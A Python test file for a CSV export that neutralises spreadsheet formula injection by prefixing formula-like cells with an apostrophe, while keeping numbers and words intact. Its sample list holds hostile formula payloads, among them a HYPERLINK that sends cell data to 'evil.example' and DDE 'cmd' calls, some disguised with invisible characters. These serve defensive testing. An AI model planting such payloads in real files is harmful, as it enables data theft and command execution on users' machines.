"""No cell of a download is a formula, and nothing else is changed."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from backends.datasets import read_table
from backends.datasets.spreadsheets import STARTS, defused, spreadsheet_csv

FORMULAS = [
    "=1+1",
    '=HYPERLINK("https://evil.example/?q="&A1,"more")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "+1-2",
    "-A1",
    "--1",
    "\ufeff=1+1",
    "\ufeff\ufeff\u200b=1+1",
    "\u2060＝1+1",
    "\x00=1+1",
    " @SUM(1+1)",
    "\u00a0\t-A1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_a_text(text: str) -> None:
    assert defused(text) == "'" + text


@pytest.mark.parametrize(
    "text",
    [
        "",
        "-",
        "+",
        "--",
        "-5",
        "+3.25",
        "-1,000.50",
        "-1 000",
        "-.5",
        "+1e-9",
        "-12 %",
        "a=b",
        "\ufeff",
        "\ufeff-5",
        " -1,5",
        "\ufeffa=b",
    ],
)
def test_numbers_signs_and_words_stay(text: str) -> None:
    assert defused(text) == text


@given(
    st.lists(
        st.text(max_size=12) | st.none() | st.floats(allow_nan=False, allow_infinity=False) | st.sampled_from(FORMULAS),
        max_size=8,
    )
)
def test_no_cell_of_the_file_begins_as_a_formula(values: list[object]) -> None:
    frame = pd.DataFrame({"=a": pd.Series(values, dtype=object), "n": range(len(values))})
    rows = list(csv.reader(io.StringIO(spreadsheet_csv(frame).decode(), newline="")))
    assert rows[0] == ["'=a", "n"]
    assert len(rows) == len(values) + 1
    for value, (cell, number) in zip(values, rows[1:], strict=True):
        assert cell[:1] not in STARTS or not cell or cell == defused(cell)
        assert number.isdigit()
        if isinstance(value, str):
            assert cell.removeprefix("'") == value.removeprefix("'")


def test_a_byte_order_mark_does_not_make_a_formula_of_the_first_name() -> None:
    data = spreadsheet_csv(pd.DataFrame({"\ufeff=1+1": ["\ufeff=2+2", "x"], "b": [1, 2]}))
    with io.TextIOWrapper(io.BytesIO(data), encoding="utf-8-sig", newline="") as opened:  # as a spreadsheet does
        rows = list(csv.reader(opened))
    assert rows == [["'\ufeff=1+1", "b"], ["'\ufeff=2+2", "1"], ["x", "2"]]


@pytest.mark.parametrize("kind", ["str", "object", "category"])
def test_texts_of_every_kind_of_column_are_looked_at_and_the_frame_is_left_alone(kind: str) -> None:
    frame = pd.DataFrame({"a": pd.Series(["=1+1", None, "'=1+1"], dtype=kind)})
    assert spreadsheet_csv(frame).decode() == "a\n'=1+1\n\"\"\n'=1+1\n"
    assert frame["a"].tolist()[0] == "=1+1"


def test_numbers_dates_and_flags_keep_their_precision() -> None:
    dataset = read_table(b"n,x,day,flag\n-1,-0.1,2020-01-31,true\n2,3e-20,2021-02-28,false\n", "t.csv")
    assert spreadsheet_csv(dataset.frame) == dataset.frame.to_csv(index=False, lineterminator="\n").encode()


def test_repeated_names_and_no_columns_are_no_obstacle() -> None:
    frame = pd.DataFrame([["=x", 1]], columns=["a", "a"])
    assert spreadsheet_csv(frame) == b"a,a\n'=x,1\n"
    assert spreadsheet_csv(pd.DataFrame(index=range(2))) == b"\n\n\n" or spreadsheet_csv(pd.DataFrame()) == b"\n"
